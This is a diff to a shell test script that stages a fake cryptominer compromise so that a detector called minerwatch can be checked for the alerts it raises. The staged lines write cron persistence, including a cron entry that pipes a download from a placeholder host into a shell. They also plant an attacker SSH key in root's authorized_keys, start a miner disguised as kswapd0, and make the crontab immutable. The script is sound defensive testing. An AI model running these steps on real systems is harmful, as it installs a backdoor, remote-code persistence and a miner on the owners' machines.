@@ -130,6 +130,7 @@ for i in $(seq 50); do grep -q ":0D05 00000000:0000 0A" /proc/net/tcp && break; 
 # The miner and its restart script in a hidden directory.
 mkdir -p /root/.bashtemp
 cp "$S/busyminer" /root/.bashtemp/kswapd0
+printf "{\"pools\": [{\"url\": \"127.0.0.1:3333\", \"user\": \"x\"}]}\n" >/root/.bashtemp/config.json
 printf "#!/bin/sh\ncd /root/.bashtemp && exec ./kswapd0 -o stratum+tcp://127.0.0.1:3333 --donate-level 1 10\n" >/root/.bashtemp/run.sh
 chmod +x /root/.bashtemp/run.sh
 setsid sh -c "/root/.bashtemp/run.sh" </dev/null >/dev/null 2>&1 &
@@ -140,6 +141,8 @@ echo "*/5 * * * * /root/.bashtemp/run.sh >/dev/null 2>&1" >/var/spool/cron/cront
 [ "$IMMUTABLE" = yes ] && chattr +i /var/spool/cron/crontabs/root
 echo "*/10 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh" >/etc/cron.d/sysupdate
 echo "@reboot root /usr/local/bin/xmrig -o stratum+tcp://pool.example.net:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge" >>/etc/crontab
+# A 4 KiB path with an invalid UTF-8 byte in a cron entry.
+printf "* * * * * root /root/.h\377/%s/run\n" "$(head -c 4100 /dev/zero | tr "\\0" a)" >/etc/cron.d/long
 # A trust relationship.
 mkdir -p -m 700 /root/.ssh
 echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKattacker attacker@203.0.113.7" >/root/.ssh/authorized_keys
@@ -176,6 +179,15 @@ bad=$(jq -c 'select(.rule.id != null and (.event.kind != "alert" or .event.modul
 [ "$n" -gt 10 ] && [ -z "$bad" ] && ok "owned: $n findings, each an ECS alert of minerwatch.triage" ||
 	fail "owned: $n findings; not ECS triage alerts: $bad"
 
+# Where a rule id is the daemon's, the ATT&CK techniques are the rule's.
+jq -s '[.[] | .rules[] | {key: .id, value: .mitre.techniques}] | from_entries' \
+	"$MW_ROOT"/rules/*.json >"$T/techniques.json"
+diff=$(jq -c --slurpfile t "$T/techniques.json" \
+	'select(.rule.id != null and $t[0][.rule.id] != null and .threat.technique.id != $t[0][.rule.id]) | [.rule.id, .threat.technique.id]' "$OUT" | head -n 3)
+shared=$(jq -r --slurpfile t "$T/techniques.json" 'select(.rule.id != null and $t[0][.rule.id] != null) | .rule.id' "$OUT" | sort -u | wc -l)
+[ -z "$diff" ] && [ "$shared" -ge 8 ] && ok "the $shared daemon rule ids used carry the daemon's ATT&CK ids" ||
+	fail "ATT&CK ids differ from the daemon's rules: $diff ($shared shared ids)"
+
 # finding RULE JQ_COND WHAT: at least one finding with that rule matches.
 finding() {
 	local line
@@ -199,8 +211,9 @@ line=$(finding MW-MINER-002 "$miner" "the miner's pool URL on its command line")
 	expect "$line" '.minerwatch.ancestry | length >= 1' "its lineage"
 }
 finding MW-EXEC-001 "$miner" "run from a hidden directory" >/dev/null
+finding MW-TRIAGE-102 "$miner"' and .file.path == "/root/.bashtemp/config.json"' "its config.json names a pool" >/dev/null
 line=$(finding MW-TRIAGE-101 "$miner" "holding a core")
-[ -n "$line" ] && expect "$line" '.minerwatch.triage.cpu_percent >= 80' "cpu_percent >= 80"
+[ -n "$line" ] && expect "$line" '.minerwatch.triage.cpu_percent >= 50' "cpu_percent >= 50"
 finding MW-PERSIST-001 '.file.path == "/var/spool/cron/crontabs/root" and (.minerwatch.triage.reasons | test("hidden"))' "cron entry to the hidden directory" >/dev/null
 finding MW-PERSIST-001 '.file.path == "/etc/cron.d/sysupdate" and (.minerwatch.triage.reasons | test("download"))' "cron download piped into a shell" >/dev/null
 finding MW-PERSIST-001 '.file.path == "/etc/crontab" and (.minerwatch.triage.reasons | test("MW-MINER"))' "cron starting a known miner (the daemon's rules)" >/dev/null
@@ -226,6 +239,8 @@ finding MW-AF-004 '.file.path == "/root/.bash_history"' "history linked to /dev/
 finding MW-TRIAGE-401 '.file.path == "/tmp/pass.txt"' "password list in /tmp" >/dev/null
 finding MW-TRIAGE-402 '.file.path == "/tmp/scan.txt"' "masscan output in /tmp" >/dev/null
 finding MW-TRIAGE-401 '.file.path == "/tmp/.x/a\nb\\xffc"' "a hostile file name, escaped, JSON intact" >/dev/null
+finding MW-PERSIST-001 '.file.path == "/etc/cron.d/long" and (.minerwatch.triage.line | length) > 4096 and (.minerwatch.triage.line | contains("/root/.h\\xff/aaa"))' \
+	"a 4 KiB path with a 0xff byte, whole and escaped" >/dev/null
 
 # The report for a person: by question, with the timeline.
 hrc=$(jq -r 'select(.human_rc != null) | .human_rc' "$OUT")
